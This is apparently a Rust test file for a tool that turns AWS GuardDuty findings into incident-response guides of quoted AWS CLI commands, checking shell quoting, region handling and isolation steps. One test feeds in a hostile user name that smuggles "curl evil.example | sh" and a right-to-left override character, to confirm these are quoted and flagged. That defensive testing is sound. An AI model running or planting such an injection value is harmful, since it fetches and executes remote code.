//! The three seed scenarios, filled in with a finding's own values.

use findlens_core::guide::{self, Command, Guide, Segment, Tone};
use findlens_core::ScenarioKey;
use serde_json::{json, Value};

fn guide_of(v: Value) -> Guide {
    let loaded = findlens_core::read(v.to_string().as_bytes());
    assert!(loaded.problems.is_empty(), "{:?}", loaded.problems);
    guide::build(&loaded.findings[0])
}

fn commands(g: &Guide) -> Vec<&Command> {
    g.sections.iter().flat_map(|s| &s.steps).flat_map(|s| &s.commands).collect()
}

fn all_text(g: &Guide) -> String {
    let mut s = String::new();
    for sec in &g.sections {
        for st in &sec.steps {
            for d in &st.decisions {
                s.push_str(&d.answer);
                s.push('\n');
            }
            for f in &st.facts {
                s.push_str(f.value.as_deref().unwrap_or(""));
                s.push('\n');
            }
        }
    }
    s
}

fn key_decision(g: &Guide) -> String {
    g.sections
        .iter()
        .flat_map(|s| &s.steps)
        .flat_map(|s| &s.decisions)
        .find(|d| d.question == "What kind of credential is this?")
        .map(|d| d.answer.clone())
        .expect("a key decision")
}

fn credentials(key: Option<&str>, user_type: &str, user_name: &str) -> Value {
    let mut k = json!({"userType": user_type, "userName": user_name, "principalId": "AROAEXAMPLE:session"});
    if let Some(key) = key {
        k["accessKeyId"] = json!(key);
    }
    json!({
        "type": "UnauthorizedAccess:IAMUser/TorIPCaller", "id": "f1", "accountId": "123456789012", "region": "us-west-2", "partition": "aws",
        "severity": 5.0,
        "resource": {"resourceType": "AccessKey", "accessKeyDetails": k},
        "service": {"detectorId": "d1", "action": {"actionType": "AWS_API_CALL", "awsApiCallAction": {"api": "GetCallerIdentity", "serviceName": "sts.amazonaws.com", "remoteIpDetails": {"ipAddressV4": "192.0.2.7"}}}}
    })
}

#[test]
fn every_command_names_its_region_and_quotes_finding_values() {
    for v in [credentials(Some("AKIAIOSFODNN7EXAMPLE"), "IAMUser", "alice"), s3_anonymous(), ec2_actor()] {
        let g = guide_of(v);
        for c in commands(&g) {
            assert!(c.text.contains(" --region 'us-west-2'"), "{}", c.text);
            for seg in &c.segments {
                if let Segment::Value { text, .. } = seg {
                    assert!(text.starts_with('\'') && text.ends_with('\''), "unquoted value {text} in {}", c.text);
                }
            }
        }
    }
}

#[test]
fn akia_is_a_long_term_key_of_an_iam_user() {
    let g = guide_of(credentials(Some("AKIAIOSFODNN7EXAMPLE"), "IAMUser", "alice"));
    assert_eq!(g.scenarios, [ScenarioKey::Credentials]);
    assert!(key_decision(&g).contains("long-term access key of an IAM user"));
    let texts: Vec<&str> = commands(&g).iter().map(|c| c.text.as_str()).collect();
    assert!(
        texts.iter().any(|t| t.starts_with(
            "aws iam update-access-key --user-name 'alice' --access-key-id 'AKIAIOSFODNN7EXAMPLE' --status Inactive"
        )),
        "{texts:#?}"
    );
    // Only the roles the key assumed, named by the analyst from the lookup: never a role of its own.
    assert!(texts.iter().filter(|t| t.contains("put-role-policy")).all(|t| t.contains("--role-name <role-name>")));
}

#[test]
fn akia_of_root_is_the_root_users_key() {
    let g = guide_of(credentials(Some("AKIAIOSFODNN7EXAMPLE"), "Root", "Root"));
    assert!(key_decision(&g).contains("root user"));
    assert!(!commands(&g).iter().any(|c| c.text.contains("update-access-key")), "root keys are not IAM users' keys");
}

#[test]
fn asia_is_temporary_and_the_user_name_is_the_role() {
    let g = guide_of(credentials(Some("ASIAY34FZKBOKMUTVV7A"), "AssumedRole", "ci-deploy-role"));
    let reading = key_decision(&g);
    assert!(reading.contains("temporary credential") && reading.contains("role's name: ci-deploy-role"), "{reading}");
    let revoke =
        commands(&g).into_iter().find(|c| c.text.contains("put-role-policy")).expect("a revoke-sessions command");
    assert!(
        revoke.text.contains("--role-name 'ci-deploy-role'") && revoke.text.contains("aws:TokenIssueTime"),
        "{}",
        revoke.text
    );
    assert!(!commands(&g).iter().any(|c| c.text.contains("update-access-key")), "an ASIA key cannot be deactivated");
}

#[test]
fn sample_and_missing_keys_get_their_own_reading() {
    let g = guide_of(credentials(Some("GeneratedFindingAccessKeyId"), "IAMUser", "GeneratedFindingUserName"));
    assert!(key_decision(&g).contains("placeholder of a GuardDuty sample finding"));
    assert!(g.notes.iter().any(|n| n.text.contains("sample finding")));
    let g = guide_of(credentials(None, "IAMUser", "alice"));
    assert!(key_decision(&g).contains("names no access key"));
    let lookup = commands(&g).into_iter().find(|c| c.text.starts_with("aws cloudtrail lookup-events")).expect("lookup");
    assert!(
        lookup.segments.iter().any(|s| matches!(s, Segment::Missing { .. })),
        "the lookup shows a blank where the key is missing"
    );
}

fn s3_anonymous() -> Value {
    json!({
        "type": "Discovery:S3/AnonymousUser", "id": "s1", "accountId": "123456789012", "region": "us-west-2", "severity": 5.0,
        "resource": {
            "resourceType": "S3Bucket",
            "accessKeyDetails": {"userName": "ANONYMOUS_PRINCIPAL", "userType": "AWSAccount", "principalId": "ANONYMOUS_PRINCIPAL"},
            "s3BucketDetails": [{"name": "public-reports", "arn": "arn:aws:s3:::public-reports", "owner": {"id": "79a59df900b949e55d96a1e698fbaced"},
                "publicAccess": {"effectivePermission": "PUBLIC"}}]
        },
        "service": {"detectorId": "d1", "action": {"actionType": "AWS_API_CALL", "awsApiCallAction": {"api": "GetObject", "serviceName": "s3.amazonaws.com", "remoteIpDetails": {"ipAddressV4": "203.0.113.50"}}}}
    })
}

#[test]
fn anonymous_principal_means_the_bucket_is_public() {
    let g = guide_of(s3_anonymous());
    assert_eq!(g.scenarios.first(), Some(&ScenarioKey::S3Bucket));
    let text = all_text(&g);
    assert!(
        text.contains("public-reports")
            && text.contains("79a59df900b949e55d96a1e698fbaced")
            && text.contains("GetObject")
    );
    let public = g.sections[0]
        .steps
        .iter()
        .flat_map(|s| &s.decisions)
        .find(|d| d.question == "Who is the caller?")
        .expect("anonymous reading");
    assert!(public.answer.contains("the bucket is public and was accessed anonymously"));
    assert_eq!(public.tone, Tone::Danger);
    assert!(commands(&g)
        .iter()
        .any(|c| c.text.starts_with("aws s3api put-public-access-block --bucket 'public-reports'")));
    assert!(commands(&g)
        .iter()
        .any(|c| c.text.contains("macie2") && c.text.contains("public-reports") && c.text.contains("123456789012")));
}

fn ec2_actor() -> Value {
    json!({
        "type": "Backdoor:EC2/C&CActivity.B", "id": "e1", "accountId": "123456789012", "region": "us-west-2", "severity": 8.0,
        "resource": {"resourceType": "Instance", "instanceDetails": {"instanceId": "i-0abc", "iamInstanceProfile": {"arn": "arn:aws:iam::123456789012:instance-profile/web"},
            "networkInterfaces": [{"vpcId": "vpc-1", "subnetId": "subnet-1", "securityGroups": [{"groupId": "sg-1"}, {"groupId": "sg-2"}]}]}},
        "service": {"detectorId": "d1", "resourceRole": "ACTOR", "action": {"actionType": "NETWORK_CONNECTION", "networkConnectionAction": {"connectionDirection": "OUTBOUND",
            "remoteIpDetails": {"ipAddressV4": "198.51.100.9"}, "remotePortDetails": {"port": 443}}}}
    })
}

#[test]
fn ec2_isolation_has_no_open_rule_and_warns_about_tracked_connections() {
    let g = guide_of(ec2_actor());
    assert_eq!(g.scenarios, [ScenarioKey::Ec2Instance]);
    let isolate = g.sections[0].steps.iter().find(|s| s.id == "ec2-instance/isolate").expect("isolate step");
    assert!(isolate.decisions.iter().any(|d| d.answer.contains("keeps flowing after the swap")));
    for c in &isolate.commands {
        assert!(!(c.text.contains("authorize") && c.text.contains("0.0.0.0/0")), "no all-open rule: {}", c.text);
    }
    let texts: Vec<&str> = isolate.commands.iter().map(|c| c.text.as_str()).collect();
    assert!(texts.iter().any(|t| t.contains("--vpc-id 'vpc-1'") && t.contains("--group-name 'isolation-i-0abc'")));
    assert!(texts.iter().any(|t| t.contains("--rule-action deny --cidr-block '198.51.100.9/32'")));
    let attach = isolate
        .commands
        .iter()
        .find(|c| c.text.starts_with("aws ec2 modify-network-interface-attribute"))
        .expect("attach");
    assert!(
        attach.segments.iter().any(|s| matches!(s, Segment::Output { name, .. } if name == "isolation-group-id")),
        "the new group's ID is printed by create-security-group, not chosen"
    );
    let role = g.sections[0].steps[0]
        .decisions
        .iter()
        .find(|d| d.question.starts_with("Is the instance being attacked"))
        .expect("role");
    assert!(role.answer.contains("the one acting"), "{}", role.answer);
    let all: Vec<&Command> = g.sections[0].steps.iter().flat_map(|s| &s.commands).collect();
    let order: Vec<usize> = ["create-snapshots", "terminate-instances"]
        .iter()
        .map(|k| all.iter().position(|c| c.text.contains(k)).expect("present"))
        .collect();
    assert!(order[0] < order[1], "snapshots come before termination");
}

#[test]
fn missing_values_and_chosen_values_are_different_blanks() {
    let mut v = ec2_actor();
    v.as_object_mut().expect("object").remove("region");
    let g = guide_of(v);
    let describe =
        commands(&g).into_iter().find(|c| c.text.starts_with("aws ec2 describe-instances")).expect("describe");
    assert!(describe.text.ends_with("--region <region>"));
    assert!(matches!(describe.segments.last(), Some(Segment::Missing { name, .. }) if name == "region"));
}

#[test]
fn hostile_values_stay_inside_their_quotes_and_are_flagged() {
    let g =
        guide_of(credentials(Some("AKIAIOSFODNN7EXAMPLE"), "IAMUser", "x'; curl evil.example | sh; echo '\u{202E}"));
    let cmd = commands(&g).into_iter().find(|c| c.text.starts_with("aws iam list-user-policies")).expect("cmd");
    assert_eq!(cmd.text, "aws iam list-user-policies --user-name 'x'\\''; curl evil.example | sh; echo '\\''\u{202E}' --region 'us-west-2'");
    assert!(cmd.warnings.iter().any(|w| w.contains("U+202E")));
}

#[test]
fn step_ids_are_unique_and_namespaced() {
    for v in [credentials(Some("AKIAIOSFODNN7EXAMPLE"), "IAMUser", "a"), s3_anonymous(), ec2_actor()] {
        let g = guide_of(v);
        let ids: Vec<&str> = g.sections.iter().flat_map(|s| &s.steps).map(|s| s.id.as_str()).collect();
        let mut uniq = ids.clone();
        uniq.sort_unstable();
        uniq.dedup();
        assert_eq!(uniq.len(), ids.len(), "{ids:?}");
        assert!(ids.iter().all(|id| id.contains('/')));
    }
}

#[test]
fn expected_branch_archives_and_suppresses_narrowly() {
    // A command and control channel is never expected: no rule for it.
    let g = guide_of(ec2_actor());
    let last = g.sections.last().expect("expected section");
    assert!(!last.steps.iter().flat_map(|s| &s.commands).any(|c| c.text.starts_with("aws guardduty create-filter")));
    // Mining may be sanctioned: a rule narrowed to the remote address and the instance.
    let mut v = ec2_actor();
    v["type"] = json!("CryptoCurrency:EC2/BitcoinTool.B");
    let g = guide_of(v);
    let last = g.sections.last().expect("expected section");
    assert!(last.scenario.is_none());
    let texts: Vec<&str> = last.steps.iter().flat_map(|s| &s.commands).map(|c| c.text.as_str()).collect();
    assert!(texts
        .iter()
        .any(|t| t.starts_with("aws guardduty archive-findings --detector-id 'd1' --finding-ids 'e1'")));
    let filter = texts.iter().find(|t| t.starts_with("aws guardduty create-filter")).expect("filter");
    assert!(filter.contains(r#"{"Criterion":{"type":{"Eq":["CryptoCurrency:EC2/BitcoinTool.B"]},"service.action.networkConnectionAction.remoteIpDetails.ipAddressV4":{"Eq":["198.51.100.9"]},"resource.instanceDetails.instanceId":{"Eq":["i-0abc"]}}}"#), "{filter}");
    assert!(last
        .steps
        .iter()
        .flat_map(|s| &s.commands)
        .all(|c| c.run_in.as_deref().is_some_and(|r| r.contains("administrator"))));
}

#[test]
fn instance_credential_exfiltration_opens_both_guides() {
    let mut v = ec2_actor();
    v["type"] = json!("UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS");
    v["resource"]["resourceType"] = json!("AccessKey");
    v["resource"]["accessKeyDetails"] =
        json!({"accessKeyId": "ASIAEXAMPLE", "userType": "AssumedRole", "userName": "web-role"});
    let g = guide_of(v);
    assert_eq!(g.scenarios.first(), Some(&ScenarioKey::Credentials));
    assert!(g.scenarios.contains(&ScenarioKey::Ec2Instance));
    assert!(commands(&g).iter().any(|c| c.text.contains("get-instance-profile --instance-profile-name 'web'")));
}
